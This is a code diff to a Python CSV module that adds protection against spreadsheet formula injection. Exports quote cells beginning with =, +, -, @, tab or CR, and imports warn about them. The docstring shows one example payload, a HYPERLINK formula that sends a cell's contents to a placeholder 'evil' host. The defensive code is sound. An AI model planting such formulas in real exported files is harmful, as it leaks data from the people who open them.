@@ -1,12 +1,21 @@
 """
-What every CSV import shares: header checks, row reading, duplicate keys, one report of every
-problem. Each format (registry, officials) parses its own fields on top of this.
+What every CSV import and export shares: header checks, row reading, duplicate keys, one report of
+every problem, and cells a spreadsheet cannot run. Each format (registry, officials) parses its own
+fields on top of this.
+
+A cell starting with = + - @ (or a tab or CR) is run as a formula by spreadsheets, so a name like
+`=HYPERLINK("http://evil/?"&A1)` in an imported file would act when an admin opens an export.
+Exports write such a cell with a leading quote (shown as text), imports read that quote back off
+(an export imports unchanged) and warn about every such cell by line and column. A phone column's
+international number (+62...) is the one legitimate formula-like value: it is neither changed
+nor warned about.
 """
 
 from __future__ import annotations
 
 import csv
 import io
+import re
 from collections.abc import Callable, Iterator
 from typing import TypeVar
 
@@ -14,6 +23,11 @@ from storage.errors import CsvProblem, InvalidCsv
 
 T = TypeVar("T")
 RowParser = Callable[[dict[str, str], int], tuple[T | None, list[CsvProblem]]]
+# A spreadsheet runs a cell starting with one of these as a formula.
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+# A phone number as written in a phone column: '+', digits and separators, nothing a formula
+# could call or refer to.
+_PHONE = re.compile(r"\+[0-9][0-9 ().-]*")
 
 
 def parse_csv(
@@ -37,7 +51,7 @@ def parse_csv(
         if None in row:
             problems.append(CsvProblem(line, "", "more fields than the header"))
             continue
-        item, row_problems = parse_row({k: (v or "").strip() for k, v in row.items()}, line)
+        item, row_problems = parse_row({k: _cell(v) for k, v in row.items()}, line)
         problems.extend(row_problems)
         if item is None:
             continue
@@ -55,6 +69,51 @@ def parse_csv(
 def _rows(reader: csv.DictReader[str]) -> Iterator[tuple[int, dict[str, str]]]:
     for row in reader:
         yield reader.line_num, row
+
+
+def _cell(value: str | None) -> str:
+    """An imported cell: trimmed, and without the quote an export put before a formula start."""
+    text = (value or "").strip()
+    if text.startswith("'") and text[1:].startswith(FORMULA_START):
+        return text[1:]
+    return text
+
+
+def is_formula(value: str, *, phone: bool = False) -> bool:
+    """Whether a spreadsheet would run this cell (a phone column's +62... number does not)."""
+    if phone and _PHONE.fullmatch(value):
+        return False
+    return value.startswith(FORMULA_START)
+
+
+def csv_cell(value: object, *, phone: bool = False) -> str:
+    """A cell a spreadsheet shows as text: one that would start a formula gets a quote first."""
+    text = "" if value is None else str(value)
+    return "'" + text if is_formula(text, phone=phone) else text
+
+
+def formula_warnings(text: str, phone_columns: tuple[str, ...] = ()) -> list[CsvProblem]:
+    """Every cell a spreadsheet would run as a formula, by line and column (line 1 is the header).
+
+    The import keeps such a value (it may be a real name) and exports it quoted; the admin is told
+    so they can check the file did not come from someone planting formulas."""
+    reader = csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline=""))
+    header = [h.strip() for h in reader.fieldnames or []]
+    reader.fieldnames = header
+    warnings = []
+    for line, row in _rows(reader):
+        for column in header:
+            value = _cell(row.get(column))
+            if is_formula(value, phone=column in phone_columns):
+                warnings.append(
+                    CsvProblem(
+                        line,
+                        column,
+                        f"starts with {value[0]!r}: a spreadsheet would run it as a formula"
+                        " (it is kept as text and exported with a leading quote)",
+                    )
+                )
+    return warnings
 
 
 def check_header(
@@ -78,11 +137,13 @@ def split_list(value: str) -> tuple[str, ...]:
     return tuple(part.strip() for part in value.split(";") if part.strip())
 
 
-def write_csv(columns: list[str], rows: list[dict[str, str]]) -> str:
-    """Rows as CSV text with a header."""
+def write_csv(
+    columns: list[str], rows: list[dict[str, str]], phone_columns: tuple[str, ...] = ()
+) -> str:
+    """Rows as CSV text with a header, every cell safe to open in a spreadsheet."""
     out = io.StringIO()
     writer = csv.writer(out, lineterminator="\n")
     writer.writerow(columns)
     for row in rows:
-        writer.writerow([row[c] for c in columns])
+        writer.writerow([csv_cell(row[c], phone=c in phone_columns) for c in columns])
     return out.getvalue()
